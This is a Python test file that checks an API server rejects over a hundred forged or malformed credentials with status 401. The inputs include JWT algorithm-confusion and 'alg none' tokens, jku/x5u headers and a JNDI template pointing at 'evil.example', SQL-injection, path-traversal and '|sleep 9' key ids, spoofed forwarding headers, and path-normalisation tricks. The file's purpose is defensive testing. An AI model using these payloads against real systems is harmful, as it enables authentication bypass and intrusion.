"""Hostile keys, tokens and headers: none lets anybody in, and none is an error of ours."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone

import jwt
import orjson
import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.doubles.engine import ScriptedEngine
from tests.doubles.key_source import PEPPER, KeysInMemory, whole_key
from tests.fixtures import issuer
from tests.fixtures.file_server import FileServer
from tests.fixtures.issuer import claims, private_key, public_jwk, token

Headers = list[tuple[bytes, bytes]]
BASE = 7_000  # characters, below the limit of a token's length


def attacks(key: str, revoked: str, expired: str) -> Iterator[tuple[str, Headers]]:
    """Name and headers of each attack. key: one that is valid; the others are what they say."""
    yield "a revoked key", authorization(revoked)
    yield "an expired key", authorization(expired)
    yield from ((f"the key {name}", authorization(text)) for name, text in wrong_keys(key))
    yield from ((f"the header {name}", headers) for name, headers in wrong_headers(key))
    yield from ((f"a token {name}", authorization(text)) for name, text in wrong_tokens())
    yield from ((f"a token {name}", authorization(text)) for name, text in wrong_parts())
    yield from ((f"a claim {name}", authorization(text)) for name, text in wrong_claims())


def authorization(credential: str | bytes) -> Headers:
    given = credential if isinstance(credential, bytes) else credential.encode("utf-8", "replace")
    return [(b"authorization", b"Bearer " + given)]


def wrong_keys(key: str) -> Iterator[tuple[str, str | bytes]]:
    yield "without its last character", key[:-1]
    yield "with one character more", f"{key}x"
    yield "in capitals", key.upper()
    yield "with another secret", f"{key[:-1]}{'z' if key.endswith('y') else 'y'}"
    yield "with another id", whole_key("nobody")
    yield "with the id alone", "-".join(key.split("-")[:2])
    yield "with its secret alone", key.split("-", 2)[2]
    yield "with a NUL inside", key.replace("-", "-\0", 1)
    yield "with a NUL behind", f"{key}\0"
    yield "with a NUL and more", f"{key}\0admin"
    yield "beyond ASCII", f"{key[:-1]}х"  # Cyrillic  # noqa: RUF001
    yield "that is not UTF-8", key.encode() + b"\xff\xfe"
    yield "with a zero-width space", key.replace("-", "-\u200b", 1)
    yield "twice", f"{key}{key}"
    yield "twice with a comma", f"{key}, {key}"
    yield "with a word behind", f"{key} admin"
    yield "quoted", f'"{key}"'
    yield "encoded", key.replace("-", "%2d")
    yield "in base64", base64.b64encode(key.encode()).decode()
    yield "as its digest", hashlib.sha256(key.encode()).hexdigest()
    yield "with SQL", "sk-k1ey' OR '1'='1-" + "x" * 43
    yield "with a path", "sk-../../k1ey-" + "x" * 43
    yield "with a wildcard", "sk-*-" + "x" * 43
    yield "with a percent sign", "sk-%-" + "x" * 43
    yield "with an id of 100,000 characters", f"sk-{'a' * 100_000}-{'x' * 43}"
    yield "of one character", "x"
    yield "of only dashes", "sk---" + "-" * 43
    yield "of only dots", ".."
    yield "of very many dots", "." * 16_000
    yield "named null", "null"
    yield "named undefined", "undefined"
    yield "as JSON", json.dumps({"key": key})
    yield "as a template", "{{7*7}}${jndi:ldap://evil.example/a}"


def wrong_headers(key: str) -> Iterator[tuple[str, Headers]]:
    good, bad = key.encode(), b"sk-other-" + b"y" * 43
    bearer = (b"authorization", b"Bearer " + good)
    yield "Authorization twice", [bearer, bearer]
    yield "Authorization with two keys", [bearer, (b"authorization", b"Bearer " + bad)]
    yield "x-api-key twice", [(b"x-api-key", good), (b"x-api-key", good)]
    yield "x-api-key against Authorization", [bearer, (b"x-api-key", bad)]
    yield "api-key against Authorization", [bearer, (b"api-key", bad)]
    yield "api-key against x-api-key", [(b"api-key", good), (b"x-api-key", bad)]
    yield "empty against Authorization", [bearer, (b"x-api-key", b"")]
    yield "Authorization without a scheme", [(b"authorization", good)]
    yield "Authorization with Basic", [(b"authorization", b"Basic " + base64.b64encode(good))]
    yield (
        "Authorization with Basic, and a key",
        [
            (b"authorization", b"Basic " + base64.b64encode(good)),
            (b"x-api-key", good),
        ],
    )
    yield "Authorization with a tab", [(b"authorization", b"Bearer\t" + good)]
    yield "Authorization with Bearer twice", [(b"authorization", b"Bearer Bearer " + good)]
    yield "Authorization with only a scheme", [(b"authorization", b"Bearer")]
    yield "Authorization empty", [(b"authorization", b"")]
    yield "Proxy-Authorization", [(b"proxy-authorization", b"Bearer " + good)]
    yield "Cookie", [(b"cookie", b"api_key=" + good)]
    yield "X-Forwarded-User", [(b"x-forwarded-user", b"admin"), (b"x-forwarded-for", b"127.0.0.1")]
    yield "of a front that is none", [(b"x-client-name", b"acme")]
    yield (
        "of a front that is forwarded",
        [
            *[(b"x-client-name", b"acme"), (b"x-forwarded-for", b"10.0.0.1")],
            (b"forwarded", b"for=10.0.0.1"),
        ],
    )
    yield "x_api_key with underscores", [(b"x_api_key", good)]


def wrong_tokens() -> Iterator[tuple[str, str]]:
    now = int(time.time())
    public = private_key("RS256").public_key()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    jwk = json.dumps(public_jwk("RS256", "one")).encode()
    for name in ("none", "None", "NONE", "nOnE", ""):
        yield f"with alg {name!r} and no signature", signed({"alg": name, "kid": "one"}, None)
        yield f"with alg {name!r} and a signature", signed({"alg": name, "kid": "one"}, b"key")
    for size in ("256", "384", "512"):
        for what, secret in (("PEM", pem), ("DER", der), ("JWK", jwk)):
            header = {"alg": f"HS{size}", "kid": "one"}
            yield f"of HS{size} with the public key as {what}", signed(header, secret, size)
    yield "of HS256 with an empty key", signed({"alg": "HS256", "kid": "one"}, b"")
    yield "of RS256 with an HMAC", signed({"alg": "RS256", "kid": "one"}, pem)
    yield "of another key", token(number=2)
    yield "of another key with the id of ours", token(number=2, key_id="one")
    yield "of an algorithm that is off", token("ES384")
    own = public_jwk("RS256", "one", 2)
    yield "with its own key in jwk", token(number=2, header={"jwk": own})
    yield "with jku", token(number=2, header={"jku": "https://evil.example/keys"})
    yield "with x5u", token(number=2, header={"x5u": "https://evil.example/cert"})
    yield "with x5c", token(number=2, header={"x5c": [base64.b64encode(der).decode()]})
    for kid in ("../../../../dev/null", "' UNION SELECT 'key' --", "|sleep 9", "/etc/passwd", "\0"):
        yield f"with the key id {kid!r}", token(number=2, key_id=kid)
        yield f"of HS256 with the key id {kid!r}", signed({"alg": "HS256", "kid": kid}, b"")
    yield "with crit", token(header={"crit": ["exp"], "exp": now})
    yield "that is expired", token(exp=now - 3600)
    yield "that is not valid yet", token(nbf=now + 3600)
    yield "for another audience", token(aud="another")
    yield "for no audience", token(aud=None)
    yield "of another issuer", token(iss="https://issuer.example.evil.example")
    yield "of the issuer with a slash", token(iss="https://issuer.example/")
    yield "that is too long", token(more="x" * 20_000)


def wrong_parts() -> Iterator[tuple[str, str]]:
    good = token()
    head, body, end = good.split(".")
    two = b'{"alg":"none","alg":"HS256"}'
    yield "without its signature", f"{head}.{body}."
    yield "without its signature and dot", f"{head}.{body}"
    yield "with another body", f"{head}.{encoded(claims(tenant='victim'))}.{end}"
    yield "with another header", f"{encoded({'alg': 'ES256', 'kid': 'one'})}.{body}.{end}"
    yield "with a changed signature", f"{head}.{body}.{'A' * len(end)}"
    yield "with four parts", f"{good}.{end}"
    yield "that is encrypted", ".".join([head, end, end, body, end])
    yield "with padding", f"{head}=.{body}.{end}"
    yield "with a header that is no JSON", f"{raw(b'{')}.{body}.{end}"
    yield "with a header that is a list", f"{raw(b'[]')}.{body}.{end}"
    yield "with a header that is null", f"{raw(b'null')}.{body}.{end}"
    yield "with a header that is deep", f"{raw(b'[' * (BASE // 2))}.{body}.{end}"
    yield "with a header that is not UTF-8", f"{raw(bytes([0xFF, 0xFE]))}.{body}.{end}"
    yield "with two algorithms", f"{raw(two)}.{body}.{end}"
    yield "with an algorithm that is a list", f"{encoded({'alg': ['RS256']})}.{body}.{end}"
    yield "with an algorithm that is a number", f"{encoded({'alg': 1})}.{body}.{end}"
    yield "with a key id that is an object", f"{encoded({'alg': 'RS256', 'kid': {}})}.{body}.{end}"
    yield "with a key id that is a number", f"{encoded({'alg': 'RS256', 'kid': 1})}.{body}.{end}"


def wrong_claims() -> Iterator[tuple[str, str]]:
    """The signatures are right."""
    for name in ("exp", "nbf", "iat"):
        for value in ("soon", float("inf"), float("nan"), [], {}):
            yield f"{name} of {value!r}", signed_by_issuer({**claims(), name: value})
    yield "nbf of 1e308", signed_by_issuer({**claims(), "nbf": 1e308})
    for value in (-1, 0, True):
        yield f"exp of {value!r}", signed_by_issuer({**claims(), "exp": value})
    for name in ("exp", "iss", "sub", "tenant"):
        yield f"set without {name}", token(**{name: None})
    for value in ("default", "2001:db8:1:2::/64"):
        yield f"tenant of {value!r}, which is reserved", token(tenant=value)
    for text in (b"[]", b"null", b"7", b"[" * 4000, b"\xff"):
        yield f"set of {text[:20]!r}", signed_by_issuer(text)
    for name in ("tenant", "sub"):
        for value in ("", "a\nb", "a\0b", "x" * 500, 7, [], {"a": "b"}, "\u202eevil"):
            yield f"{name} of {value!r:.30}", signed_by_issuer({**claims(), name: value})


def encoded(value: object) -> str:
    return raw(json.dumps(value).encode())


def raw(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def signed(header: dict, secret: bytes | None, size: str = "256") -> str:
    """By HMAC, whatever the header says; None signs nothing."""
    text = f"{encoded({'typ': 'JWT', **header})}.{encoded(claims())}"
    made = b"" if secret is None else hmac.digest(secret, text.encode(), f"sha{size}")
    return f"{text}.{raw(made)}"


def signed_by_issuer(payload: dict | bytes) -> str:
    data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    key, headers = private_key("RS256"), {"kid": "one"}
    return jwt.api_jws.PyJWS().encode(data, key, "RS256", headers)


SOCKET = "/v1/chat/completions/ws"


@pytest.fixture
def keys() -> KeysInMemory:
    return KeysInMemory()


@pytest.fixture
def client(serve, keys, tmp_path):
    """With every source of callers, and the keys `k1ey`, `revoked` and `expired`."""
    now = datetime.now(timezone.utc)
    keys.add("k1ey")
    keys.add("revoked")
    keys.change("revoked", revoked_at=now)
    keys.add("expired", expires_at=now - timedelta(seconds=1))
    jwks = orjson.dumps({"keys": [issuer.public_jwk("RS256", "one")]})
    with FileServer({"/keys": jwks}) as server:
        yield serve(
            ScriptedEngine(),
            keys=keys,
            key_pepper=PEPPER,
            api_key="the-one-key-of-these-tests-is-long",
            jwt_issuer=issuer.ISSUER,
            jwt_audience=(issuer.AUDIENCE,),
            jwt_jwks_url=server.url("/keys"),
            client_name_header="X-Client-Name",
            trusted_fronts=("10.0.0.0/8",),
        )


def status_of(client, headers: Headers, path: str = "/v1/models") -> int:
    """As the application answers to these very bytes, which a client library would not send."""
    statuses = []

    async def receive() -> dict:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict) -> None:
        statuses.append(message.get("status"))

    scope = {
        "type": "http",
        "method": "GET",
        "path": path,
        "headers": [(b"host", b"localhost"), *headers],
        "client": ("192.0.2.1", 1),
        "query_string": b"",
    }
    client.portal.call(client.app, scope, receive, send)
    return statuses[0]


def socket_status_of(client, headers: Headers) -> int:
    sent = []

    async def receive() -> dict:
        return {"type": "websocket.connect"}

    async def send(message: dict) -> None:
        sent.append(message)

    scope = {
        "type": "websocket",
        "path": SOCKET,
        "headers": [(b"host", b"localhost"), *headers],
        "client": ("192.0.2.1", 1),
        "query_string": b"",
        "extensions": {"websocket.http.response": {}},
    }
    client.portal.call(client.app, scope, receive, send)
    assert sent[0]["type"] == "websocket.http.response.start"
    return sent[0]["status"]


def test_none_of_over_a_hundred_attacks_gets_in(client, keys):
    good, revoked, expired = (f"sk-{name}-{'x' * 43}" for name in ("k1ey", "revoked", "expired"))
    assert status_of(client, authorization(good)) == 200
    for valid in (issuer.token(), signed_by_issuer(issuer.claims())):
        assert status_of(client, authorization(valid)) == 200
    tried = list(attacks(good, revoked, expired))
    statuses = {name: status_of(client, headers) for name, headers in tried}
    assert {name: status for name, status in statuses.items() if status != 401} == {}
    assert len(statuses) == len(tried) > 100


def test_none_of_them_gets_a_socket(client):
    good, revoked, expired = (f"sk-{name}-{'x' * 43}" for name in ("k1ey", "revoked", "expired"))
    statuses = {
        name: socket_status_of(client, headers) for name, headers in attacks(good, revoked, expired)
    }
    assert set(statuses.values()) == {401}


@pytest.mark.parametrize("path", ["/v1/models/../../metrics", "/admin/../v1/models", "//v1/models"])
def test_no_spelling_of_a_path_avoids_the_key(client, path):
    assert status_of(client, [], path) == 401
